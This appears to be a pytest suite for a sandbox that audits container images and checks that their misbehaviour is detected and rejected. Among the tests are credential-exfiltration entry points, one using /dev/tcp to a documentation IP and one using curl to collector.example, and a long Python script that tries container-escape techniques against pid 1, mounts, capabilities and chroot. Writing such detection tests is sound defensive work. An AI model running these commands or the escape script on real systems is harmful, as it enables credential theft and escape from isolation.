"""Container images, audited: their own files, users and programs, in the sandbox."""

from __future__ import annotations

import json
import tarfile

import pytest

from pytest_ato.model.events import Exec, Start, Tls

pytestmark = pytest.mark.privileged

FIRST_ID = 0x70000000
"""From here on ids are nobody's but an image's."""


def bash(text: str) -> dict[str, list[str]]:
    return {"Entrypoint": ["/bin/bash", "-c", text]}


def test_an_honest_image_is_approved_and_named(image, shell, ato_trace):
    text = "echo $0 $1 $GREETING; id -u; id -g; pwd; echo $HOME; cat /srv/data.txt; echo x >made"
    path = image(
        [shell, [("srv/data.txt", b"data\n", 0o600)]],
        **bash(text),
        Cmd=["tool", "argument"],
        Env=["GREETING=hello", "PATH=/bin"],
        WorkingDir="/srv/work",
    )
    trace = ato_trace(path)
    lines = trace.stdout.decode().splitlines()
    assert lines == ["tool argument hello", "0", "0", "/srv/work", "/root", "data"]
    assert trace.returncode == 0
    assert trace.findings == []
    target = trace.report.target
    assert target.image.name == "vendor/tool:1.2"
    assert target.image.user == "root (0:0)"
    assert target.image.entry_point[:2] == ("/bin/bash", "-c")
    for name in ("report.md", "report.html"):
        page = (trace.report_dir / name).read_text()
        assert target.image.digest in page
        assert "vendor/tool:1.2" in page


def test_arguments_take_the_commands_place_and_links_their_names(image, shell, entry, ato_trace):
    link = entry("bin/applet", type=tarfile.SYMTYPE, linkname="bash")
    path = image([[*shell, link]], Entrypoint=["applet", "-c", "echo $BASH $@", "0"], Cmd=["no"])
    trace = ato_trace(path, args=["yes", "$HOME"])
    assert trace.stdout == b"/bin/applet yes $HOME\n"
    assert trace.report.target.argv[-2:] == ("yes", "$HOME")


def test_files_of_the_image_stay_where_a_credential_would_be_planted(
    image, shell, entry, ato_trace
):
    link = entry("root/.ssh", type=tarfile.SYMTYPE, linkname="/etc")
    own = ("root/.aws/credentials", b"the vendor's own\n", 0o644)
    trace = ato_trace(image([[*shell, own, link]], **bash("cat ~/.aws/credentials; ls /etc")))
    assert trace.stdout.startswith(b"the vendor's own\n")
    assert b"id_" not in trace.stdout
    assert [finding.detector for finding in trace.findings] == ["honeytoken_read"], "by its name"


def test_a_disk_is_full_at_its_limit(image, shell, ato_trace):
    text = "while printf %04096d 0; do :; done >/made; echo full"
    trace = ato_trace(image([shell], **bash(text)), limit=["disk=1M"])
    assert trace.stdout == b"full\n"
    assert b"No space left on device" in trace.stderr


def test_a_user_of_the_image_has_what_is_its_own_and_nothing_else(image, shell, entry, ato_trace):
    text = """
        id -u; id -g; echo $HOME
        echo x >/srv/vendor/made && echo own
        echo x >/var/cache/data/made && echo volume
        echo x >/tmp/made && echo tmp
        echo x >/dev/shm/made && echo shm
        echo x 2>/dev/null >/etc/made || echo etc
        cat /srv/secret 2>/dev/null || echo secret
        cat ~/.aws/credentials
        while read -r line; do [[ $line == Cap* ]] && echo "$line"; done </proc/self/status
    """
    mine = {"uid": 1000, "gid": 1001}
    secret = entry("srv/secret", type=tarfile.REGTYPE, mode=0o600, uid=7)
    members = [*shell, entry("srv/vendor", mode=0o700, **mine), entry("var/cache/data", **mine)]
    path = image([members, [secret]], **bash(text), User="vendor")
    trace = ato_trace(path)
    lines = trace.stdout.decode().splitlines()
    assert lines[:9] == [
        *("1000", "1001", "/srv/vendor", "own", "volume", "tmp", "shm", "etc", "secret")
    ]
    assert "[default]" in lines
    assert {int(line.split()[1], 16) for line in lines[-5:]} <= {0, int(lines[-2].split()[1], 16)}
    assert [finding.detector for finding in trace.findings] == ["honeytoken_read"]
    start = next(event for event in trace.events if isinstance(event, Start))
    assert start.uid >= FIRST_ID
    assert (start.uid - FIRST_ID) % 65_536 == 1000
    assert {event.uid for event in trace.events if isinstance(event, Exec)} == {start.uid}


def test_an_entry_point_that_sends_a_honeytoken_is_rejected(image, shell, ato_trace):
    text = "exec 3<>/dev/tcp/198.51.100.7/80; cat ~/.aws/credentials >&3"
    trace = ato_trace(image([shell], **bash(text)))
    assert "honeytoken_exfil" in {finding.detector for finding in trace.findings}
    assert trace.verdict == "REJECT"


def test_what_an_image_says_in_tls_is_read_in_its_own_library(image, curl, ato_trace):
    text = "curl -sS -d @$HOME/.aws/credentials https://collector.example/ >/dev/null; echo $?"
    trace = ato_trace(image([curl], **bash(text)))
    assert (trace.stdout, trace.stderr) == (b"0\n", b""), "the sinkhole's authority is trusted"
    assert "honeytoken_exfil" in {finding.detector for finding in trace.findings}
    assert any(isinstance(event, Tls) for event in trace.events), "no file of the host's is mapped"


ATTACK = """
import ctypes, json, os, signal, socket
libc = ctypes.CDLL(None, use_errno=True)
report = {}
def call(name, function, *args):
    ctypes.set_errno(0)
    result = function(*args)
    report[name] = 0 if result >= 0 else ctypes.get_errno()
def attempt(name, function, *args):
    try:
        function(*args)
        report[name] = 0
    except OSError as error:
        report[name] = error.errno
def writable(top):
    found = []
    tried = 0
    for folder, _, names in os.walk(top):
        for name in names:
            tried += 1
            try:
                os.close(os.open(f"{folder}/{name}", os.O_WRONLY | os.O_NONBLOCK))
                found.append(f"{folder}/{name}")
            except OSError:
                pass
    return [tried, found]
def mounts(when):
    os.makedirs("/mnt", exist_ok=True)
    call(f"umount{when}", libc.umount2, b"/proc/sys", 2)
    call(f"remount{when}", libc.mount, b"none", b"/proc/sys", None, 32 | 4096, None)
    call(f"remount of proc{when}", libc.mount, b"none", b"/proc", None, 32 | 4096, None)
    call(f"proc{when}", libc.mount, b"proc", b"/mnt", b"proc", 0, None)
    call(f"sysfs{when}", libc.mount, b"sysfs", b"/mnt", b"sysfs", 0, None)
    call(f"cgroups{when}", libc.mount, b"cgroup2", b"/mnt", b"cgroup2", 0, None)
lines = open("/proc/self/status").read().splitlines()
status = dict(line.split(":\\t", 1) for line in lines)
facts = {name: status[name].strip() for name in ("CapEff", "CapBnd", "NoNewPrivs", "Uid")}
facts["map"] = open("/proc/self/uid_map").read().split()
os.close(os.open("/made", os.O_CREAT | os.O_WRONLY))
facts["made"] = [os.stat("/made").st_uid, os.stat("/proc").st_uid]
facts["sysctl"] = writable("/proc/sys")
mounts("")
call("tmpfs", libc.mount, b"t", b"/mnt", b"tmpfs", 0, None)
attempt("character device", os.mknod, "/null", 0o20666, os.makedev(1, 3))
attempt("block device", os.mknod, "/disk", 0o60666, os.makedev(254, 0))
attempt("root of pid 1", os.listdir, "/proc/1/root")
attempt("environment of pid 1", open, "/proc/1/environ")
attempt("memory of pid 1", open, "/proc/1/mem")
for name in os.listdir("/proc/1/fd"):
    attempt(f"descriptor {name} of pid 1", os.readlink, f"/proc/1/fd/{name}")
    attempt(f"file {name} of pid 1", os.open, f"/proc/1/fd/{name}", os.O_RDONLY | os.O_NONBLOCK)
handle = os.pidfd_open(1)
call("namespaces of pid 1", libc.setns, handle, 0x00020000 | 0x10000000)
call("descriptor of pid 1", libc.syscall, 438, handle, 3, 0)
call("trace pid 1", libc.ptrace, 16, 1, 0, 0)
call("namespace of networks", libc.unshare, 0x40000000)
call("namespace of mounts", libc.unshare, 0x00020000)
attempt("raw socket", socket.socket, socket.AF_INET, socket.SOCK_RAW, 1)
attempt("packets", socket.socket, socket.AF_PACKET, socket.SOCK_RAW, 3)
attempt("an id of the host", os.chown, "/made", 70000, 70000)
attempt("become an id of the host", os.setresuid, 70000, 70000, 70000)
attempt("another's group", os.setgroups, [70000])
attempt("score of memory", lambda: open("/proc/self/oom_score_adj", "w", 1).write("-1000\\n"))
header, data = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)(*[1 << 21] * 6)
call("a capability more", libc.capset, header, data)
call("time", libc.settimeofday, (ctypes.c_long * 2)(1, 0), None)
call("host name", libc.sethostname, b"x", 1)
call("keys of the kernel", libc.syscall, 246, 0, 0, None, 0)
os.kill(1, signal.SIGKILL)
os.mkdir("/jail")
if os.fork() == 0:
    os.chroot("/jail")
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    os._exit(0 if os.path.exists("/made") else 1)
facts["out of a chroot"] = os.waitstatus_to_exitcode(os.wait()[1])
attempt("as its own user", os.setresuid, 33, 33, 33)
facts["as its own user"] = report.pop("as its own user")
ours, theirs = os.pipe()
if os.fork() == 0:
    call("nested", libc.unshare, 0x10000000 | 0x00020000)
    if report.pop("nested") == 0:
        mounts(", nested")
        report["sysctl, nested"] = 0 if writable("/proc/sys")[1] else 1
    os.write(theirs, json.dumps(report).encode())
    os._exit(0)
os.close(theirs)
print(json.dumps([facts, json.loads(os.read(ours, 65536))]))
"""


def test_root_of_an_image_is_nobody_here(image, python, ato_trace):
    path = image(
        [python, [("attack.py", ATTACK.encode(), 0o644)]],
        Entrypoint=["/usr/bin/python3"],
        Cmd=["-I", "-S", "/attack.py"],
    )
    trace = ato_trace(path)
    assert trace.stderr == b""
    facts, report = json.loads(trace.stdout)
    assert facts["Uid"].split() == ["0"] * 4
    assert facts["NoNewPrivs"] == "1"
    assert facts["CapEff"] == facts["CapBnd"] == "00000000000401fb"
    inside, outside, count = map(int, facts["map"])
    assert (inside, count) == (0, 65_536)
    assert outside >= FIRST_ID
    assert facts["made"] == [0, 65_534]
    tried, opened = facts["sysctl"]
    assert tried > 100
    assert opened == []
    assert len(report) >= 30
    assert {name: number for name, number in report.items() if number == 0} == {}
    assert facts["out of a chroot"] == facts["as its own user"] == 0
    assert trace.report.conclusive, "pid 1 cannot be killed from inside"
    assert trace.verdict == "REJECT"
    uids = {event.uid for event in trace.events if isinstance(event, Exec)}
    assert uids == {outside}
    assert "sandbox_escape" in {finding.detector for finding in trace.findings}
